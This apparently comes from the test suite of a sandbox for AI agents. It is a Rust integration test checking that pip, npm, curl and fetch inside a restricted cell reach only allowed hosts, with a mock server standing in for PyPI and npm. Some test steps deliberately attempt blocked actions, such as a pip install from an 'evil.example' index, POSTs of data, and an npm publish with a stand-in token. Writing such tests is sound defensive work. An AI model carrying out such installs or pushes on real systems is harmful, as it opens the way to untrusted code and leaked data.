//! The programs that agents use, in real cells, with a real server over HTTPS in the places of those that their rules let them reach:
//! pip, `requests`, `urllib` and curl; npm and Node's `fetch`. Nobody tells them of a proxy, an authority or another registry: what a cell
//! has by itself, and a preset, is enough.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test that fails says where")]

use std::path::Path;
use std::process::Command;

use serde_json::Value;
use testkit::{Asked, Lab, Reply, Site};

const PYTHON: &str = "pypi:requests==2.32.5";
const NODE: &str = "npm:npm@11.6.2";

/// Makes a wheel and an archive of npm in the folder that it is given, and prints their digests.
const PACK: &str = r#"
import base64, hashlib, io, json, sys, tarfile, zipfile
folder = sys.argv[1]
with zipfile.ZipFile(folder + "/wheel", "w") as wheel:
    info = "parcel-1.0.dist-info/"
    wheel.writestr("parcel.py", "def main():\n    print('unpacked in a cell')\n")
    wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: parcel\nVersion: 1.0\n")
    wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr(info + "entry_points.txt", "[console_scripts]\nparcel = parcel:main\n")
    wheel.writestr(info + "RECORD", "parcel.py,,\n%(i)sMETADATA,,\n%(i)sWHEEL,,\n%(i)sentry_points.txt,,\n%(i)sRECORD,,\n" % {"i": info})
with tarfile.open(folder + "/npm", "w:gz") as archive:
    for name, text in [("package.json", json.dumps({"name": "parcel", "version": "1.0.0", "main": "index.js"})),
                       ("index.js", "module.exports = 'unpacked in a cell'\n")]:
        member = tarfile.TarInfo("package/" + name)
        member.size = len(text)
        archive.addfile(member, io.BytesIO(text.encode()))
read = lambda name: open(folder + "/" + name, "rb").read()
print(hashlib.sha256(read("wheel")).hexdigest(), base64.b64encode(hashlib.sha512(read("npm")).digest()).decode())
"#;

/// Whom it stands for.
const HOSTS: [&str; 4] = ["pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "data.example"];

/// An index of PyPI, a registry of npm, each with one package, and a little more.
fn site(folder: &Path) -> Site {
    let made = Command::new("python3").args(["-c", PACK]).arg(folder).output().unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    let said = String::from_utf8(made.stdout).unwrap();
    let (sha256, sha512) = said.trim().split_once(' ').unwrap();
    let page = format!(
        "<a href=\"https://files.pythonhosted.org/packages/parcel-1.0-py3-none-any.whl#sha256={sha256}\">parcel-1.0-py3-none-any.whl</a>"
    );
    let integrity = format!("sha512-{sha512}");
    let [wheel, archive] = ["wheel", "npm"].map(|name| std::fs::read(folder.join(name)).unwrap());
    let tarball = "https://registry.npmjs.org/parcel/-/parcel-1.0.0.tgz";
    let version = serde_json::json!({"name": "parcel", "version": "1.0.0", "main": "index.js",
        "dist": {"tarball": tarball, "integrity": integrity}});
    let document = serde_json::json!({"name": "parcel", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}});
    Site::start(&HOSTS, move |asked: &Asked| match (asked.host.as_str(), asked.line.as_str()) {
        ("pypi.org", "GET /simple/parcel/") => Reply::Bytes("text/html", page.clone().into_bytes()),
        ("files.pythonhosted.org", "GET /packages/parcel-1.0-py3-none-any.whl") => {
            Reply::Bytes("application/zip", wheel.clone())
        }
        ("registry.npmjs.org", "GET /parcel") => {
            Reply::Bytes("application/json", document.to_string().into_bytes())
        }
        ("registry.npmjs.org", "GET /parcel/-/parcel-1.0.0.tgz") => {
            Reply::Bytes("application/octet-stream", archive.clone())
        }
        ("data.example", "GET /data") => Reply::Bytes("text/plain", b"fetched in a cell".to_vec()),
        _ => Reply::Status(404),
    })
}

/// Runs what it is given in a session that may install by a preset and read the data, and nothing else.
fn tried(image: &str, preset: &str, program: &str) -> (Value, Vec<Asked>, Lab) {
    let folder = tempfile::tempdir().unwrap();
    let site = site(folder.path());
    let mut lab = Lab::start(env!("CARGO_BIN_EXE_lazaret"), Vec::new());
    drop(lab.run(&["image", "build", image], "").expect(0));
    // From here on, the names of the registries are the site's.
    drop(lab.run(&["stop", "--daemon"], "").expect(0));
    lab.network(&site.network(&lab.path("")));
    lab.restart_daemon();
    let start = r#"
import json, os, shutil, subprocess
# What an earlier run left on the agent's disk.
for left in [".local", ".cache", ".npm"]:
    shutil.rmtree("/home/agent/" + left, ignore_errors=True)
def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True, timeout=250)
    return {"code": done.returncode, "said": done.stdout + done.stderr}
"#;
    let program = format!("{start}\n{program}\nprint(json.dumps(tried))\n");
    let name = &format!("{preset}-client");
    lab.agent(
        name,
        &format!(
            "name = \"{name}\"\nharness = {{ command = [\"python3\", \"-c\", '''{program}'''] }}\nimage = \"{image}\"\n\
             [egress]\npresets = [\"{preset}\"]\nallow = [\"GET https://data.example/data\"]\n\
             [limits]\nmemory = \"512MiB\"\nwall_clock = \"10m\"\n",
        ),
    );
    drop(lab.run(&["agent", "apply", name, "--yes"], "").expect(0));
    let done = lab.session(&[name], "").expect(0);
    let tried = serde_json::from_str(done.stdout.trim()).unwrap_or_else(|_| panic!("{done:?}"));
    (tried, site.asked(), lab)
}

fn expect(tried: &Value, what: &str, ok: bool, words: &[&str]) {
    let found = &tried[what];
    let said = found["said"].as_str().unwrap_or_default();
    assert_eq!(found["code"] == 0, ok, "{what}: {found}");
    assert!(words.iter().all(|word| said.contains(word)), "{what}: {said}");
}

#[test]
fn pip_and_requests_work_in_a_cell_where_its_rules_say() {
    let program = r#"
import requests, urllib.error, urllib.request
def fetched(get):
    try:
        return {"code": 0, "said": get()}
    except Exception as error:
        return {"code": 1, "said": repr(error)}
def curl(*args):
    return run("curl", "--silent", "--show-error", "--max-time", "100", "--write-out", " by %{http_version}", *args)
def refused(response):
    return "%s %s" % (response.status_code, response.text)
tried = {
    "install": run("pip", "install", "parcel"),
    "command": run("parcel"),
    "import": run("python3", "-c", "import parcel; parcel.main()"),
    "another index": run("pip", "install", "--index-url", "https://evil.example/simple/", "other"),
    "venv": run("python3", "-m", "venv", "/tmp/venv"),
    "install in venv": run("/tmp/venv/bin/pip", "install", "parcel"),
    "command in venv": run("/tmp/venv/bin/parcel"),
    "requests": fetched(lambda: requests.get("https://data.example/data", timeout=60).text),
    "requests, refused": fetched(lambda: refused(requests.post("https://data.example/data", data="x", timeout=60))),
    "urllib": fetched(lambda: urllib.request.urlopen("https://data.example/data", timeout=60).read().decode()),
    "curl 1.1": curl("--http1.1", "https://data.example/data"),
    "curl 2": curl("--http2", "https://data.example/data"),
    "curl, refused": curl("--data", "x", "https://data.example/data"),
    "urllib, refused": fetched(lambda: urllib.request.urlopen("https://data.example/elsewhere", timeout=60).read().decode()),
}
"#;
    let (tried, asked, lab) = tried(PYTHON, "pip", program);
    expect(&tried, "install", true, &["Successfully installed parcel-1.0"]);
    expect(&tried, "command", true, &["unpacked in a cell"]);
    expect(&tried, "import", true, &["unpacked in a cell"]);
    expect(&tried, "another index", false, &["No matching distribution found for other"]);
    expect(&tried, "venv", true, &[]);
    expect(&tried, "install in venv", true, &["Successfully installed parcel-1.0"]);
    expect(&tried, "command in venv", true, &["unpacked in a cell"]);
    for client in ["requests", "urllib"] {
        expect(&tried, client, true, &["fetched in a cell"]);
    }
    for version in ["1.1", "2"] {
        let said = format!("fetched in a cell by {version}");
        expect(&tried, &format!("curl {version}"), true, &[&said]);
    }
    expect(&tried, "curl, refused", true, &["lazaret: "]);
    expect(&tried, "requests, refused", true, &["403 lazaret: "]);
    expect(&tried, "urllib, refused", false, &["403"]);
    // What was refused never left, and is what a person is proposed to allow.
    assert!(asked.iter().all(|request| request.line.starts_with("GET ")), "{asked:?}");
    let learned = lab.run(&["policy", "learn", "pip-client", "--json"], "").expect(0).stdout;
    assert!(learned.contains("\"GET https://evil.example/simple/other/\""), "{learned}");
    assert!(
        learned.contains("\"GET https://data.example/elsewhere\"") && !learned.contains("pypi.org"),
        "{learned}"
    );
}

#[test]
fn npm_and_node_work_in_a_cell_where_its_rules_say() {
    let program = r#"
fetch = "fetch(process.argv[1], {method: process.argv[2]}).then(async r => console.log(r.status, await r.text()))"
os.makedirs("/tmp/work")
os.chdir("/tmp/work")
tried = {
    "install": run("npm", "install", "parcel"),
    "require": run("node", "-p", "require('parcel')"),
    "change": run("sed", "-i", "s/1.0.0/2.0.0/", "node_modules/parcel/package.json"),
    "publish": run("npm", "publish", "--//registry.npmjs.org/:_authToken=mine", "./node_modules/parcel"),
    "fetch": run("node", "-e", fetch, "https://data.example/data", "GET"),
    "fetch, refused": run("node", "-e", fetch, "https://data.example/data", "POST"),
}
"#;
    let (tried, asked, _lab) = tried(NODE, "npm", program);
    expect(&tried, "install", true, &["added 1 package"]);
    expect(&tried, "require", true, &["unpacked in a cell"]);
    expect(&tried, "publish", false, &["403"]);
    expect(&tried, "fetch", true, &["200 fetched in a cell"]);
    expect(&tried, "fetch, refused", true, &["403 lazaret: "]);
    assert!(asked.iter().all(|request| request.line.starts_with("GET ")), "{asked:?}");
}
